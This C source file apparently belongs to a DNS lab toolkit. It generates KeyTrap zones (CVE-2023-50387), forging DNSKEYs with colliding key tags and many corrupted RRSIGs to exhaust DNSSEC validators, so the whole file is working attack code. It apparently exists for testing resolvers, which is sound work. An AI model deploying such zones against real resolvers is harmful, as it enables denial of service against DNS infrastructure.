/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * keytrap KEYS SIGS: many keys with one key tag and many spoilt signatures that name it, so that
 * a validator without a limit tries each key with each signature (CVE-2023-50387).
 */
#include "tools/lab/zones/world.h"

#include <stdio.h>

static bool wanted(const struct zone *z, int *keys, int *signatures)
{
	return sscanf(zone_arg(z, "keytrap", 0, ""), "%d %d", keys, signatures) == 2;
}

/* RFC 4034 B: the key tag is a sum of 16-bit words, so any word can make up for another. */
static bool collide(ldns_rr *dnskey, uint16_t tag)
{
	uint8_t *key = ldns_rdf_data(ldns_rr_rdf(dnskey, 3));

	for (int i = 0; i < 8 && ldns_calc_keytag(dnskey) != tag; i++) {
		uint16_t word = (uint16_t)(key[0] << 8 | key[1]);

		word = (uint16_t)(word + tag - ldns_calc_keytag(dnskey));
		key[0] = (uint8_t)(word >> 8);
		key[1] = (uint8_t)word;
	}
	return ldns_calc_keytag(dnskey) == tag;
}

bool keytrap_push_keys(const struct zone *z, ldns_rr_list *list)
{
	int keys, signatures;

	if (!wanted(z, &keys, &signatures))
		return true;
	for (int i = 0; i < keys; i++) {
		ldns_rr *rr = ldns_rr_clone(z->zsk.dnskey);
		ldns_rdf *key = ldns_rr_rdf(rr, 3);

		for (size_t k = 2; k < ldns_rdf_size(key); k++)
			ldns_rdf_data(key)[k] ^= (uint8_t)((i + 1) * 29 + (int)k * 7);
		ldns_rr_list_push_rr(list, rr);
		if (!collide(rr, ldns_key_keytag(z->zsk.key)))
			return false;
	}
	return true;
}

void keytrap_push_signatures(const struct zone *z, ldns_rr_list *list)
{
	int keys, signatures;
	ldns_rr *sound = NULL;

	if (!wanted(z, &keys, &signatures))
		return;
	for (size_t i = 0; i < ldns_rr_list_rr_count(list) && !sound; i++) {
		ldns_rr *rr = ldns_rr_list_rr(list, i);

		if (ldns_rr_get_type(rr) == LDNS_RR_TYPE_RRSIG &&
		    ldns_rdf2rr_type(ldns_rr_rrsig_typecovered(rr)) == LDNS_RR_TYPE_A)
			sound = rr;
	}
	for (int i = 0; sound && i < signatures; i++) {
		ldns_rr *rr = i ? ldns_rr_clone(sound) : sound;

		ldns_rdf_data(ldns_rr_rrsig_sig(rr))[7] ^= (uint8_t)(i + 1);
		if (i)
			ldns_rr_list_push_rr(list, rr);
	}
}
